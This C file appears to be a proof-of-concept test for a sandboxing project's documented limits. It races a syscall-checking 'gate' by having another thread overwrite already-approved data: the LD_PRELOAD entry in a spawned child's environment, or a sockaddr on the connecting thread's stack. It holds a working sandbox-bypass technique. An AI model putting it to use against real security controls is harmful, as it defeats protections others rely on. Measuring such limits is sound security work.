/* Another thread overwrites what the gate has judged, where it lies in ordinary memory (docs/security/limits.md). Prints
 * whether that came about, and after how many tries.
 *
 *   overwriting environment SHELL    the kernel writes into the environment that the gate made for a listed child: it
 *                                    starts without the shield, and leaves a file in /tmp
 *   overwriting address ADDRESS      another address is written over a judged one, on the stack of the thread that
 *                                    connects
 */
#include "midst.h"
#include <arpa/inet.h>
#include <pthread.h>
#include <spawn.h>

enum { PATIENCE = 40, PAGE = 4096, PAGES = 3, AROUND = 64, LOOK_AGAIN = 200, BELOW = 4096, SELF = 64 };
static volatile int stop;

/* Where the kernel will lay memory next. */
static char *free_place(void)
{
    char *at = mmap(NULL, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    munmap(at, PAGES * PAGE);
    return at;
}

static char *volatile start;
static volatile int is_ready;

static void *overwrite_environment(void *unused)
{
    static const char preload[] = "LD_PRELOAD=/opt";
    int found = 0, in = memfd_create("in", 0), out = memfd_create("out", 0);
    char *view = mmap(NULL, PAGE, PROT_READ, MAP_SHARED, out, 0);
    (void)unused;
    if (write(in, "xxxx", 4) != 4 || ftruncate(out, PAGE))
        exit(2);
    is_ready = 1;
    while (!start)
        ;
    for (int turn = 0; !stop; turn++) {
        int is_known = found && turn % LOOK_AGAIN;
        for (int i = is_known ? found - 1 : -AROUND; i <= (is_known ? found + 1 : AROUND); i++) {
            char *page = start + i * PAGE, *at = NULL;
            if (pwrite(out, page, PAGE, 0) == PAGE) /* or nothing is mapped there */
                at = memmem(view, PAGE, preload, sizeof preload - 1);
            if (at && pread(in, page + (at - view) + sizeof preload - 4, 3, 0) == 3)
                found = i;
        }
    }
    return NULL;
}

static int start_children(char *shell)
{
    char *arguments[] = {shell, "-c", "echo mark > /tmp/mark", NULL}, *environment[] = {NULL};
    pthread_t thread;
    pid_t child;
    int tries = 0;
    pthread_create(&thread, NULL, overwrite_environment, NULL);
    while (!is_ready)
        ;
    start = free_place();
    for (double end = now() + PATIENCE; now() < end && !stop; tries++) {
        if (!posix_spawn(&child, shell, NULL, NULL, arguments, environment))
            end_of(child);
        stop = !access("/tmp/mark", F_OK);
    }
    int got = stop;
    stop = 1;
    pthread_join(thread, NULL);
    return print(got, tries);
}

static char *volatile frame;
static struct sockaddr_in judged, another;
static volatile int got, tries;
/* What lies on the stack below, what is written over it, and how much of it. */
static const void *before, *after;
static size_t size;

static void *overwrite_stack(void *unused)
{
    (void)unused;
    while (!frame)
        ;
    while (!stop)
        for (char *p = frame - BELOW; p < frame - SELF; p += 4)
            if (!memcmp(p, before, size))
                memcpy(p, after, size);
    return NULL;
}

static int race(void *(*often)(void *))
{
    pthread_t threads[2];
    pthread_create(&threads[0], NULL, overwrite_stack, NULL);
    pthread_create(&threads[1], NULL, often, NULL);
    pthread_join(threads[1], NULL);
    stop = 1;
    pthread_join(threads[0], NULL);
    return print(got, tries);
}

static void *connect_often(void *unused)
{
    static struct sockaddr_in to;
    (void)unused;
    to = judged;
    frame = __builtin_frame_address(0);
    for (double end = now() + PATIENCE; now() < end && !got; tries++) {
        struct sockaddr_in peer = {0};
        socklen_t length = sizeof peer;
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (!connect(s, (struct sockaddr *)&to, sizeof to) &&
            !getpeername(s, (struct sockaddr *)&peer, &length))
            got += peer.sin_addr.s_addr == another.sin_addr.s_addr && write(s, "mark", 4) == 4;
        close(s);
    }
    return NULL;
}

static int connect_elsewhere(const char *address)
{
    judged = (struct sockaddr_in){
        .sin_family = AF_INET, .sin_port = htons(9999), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    another = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(80)};
    inet_aton(address, &another.sin_addr);
    before = &judged;
    after = &another;
    size = 8; /* family, port, address */
    return race(connect_often);
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    return !strcmp(argv[1], "environment") ? start_children(argv[2]) : connect_elsewhere(argv[2]);
}
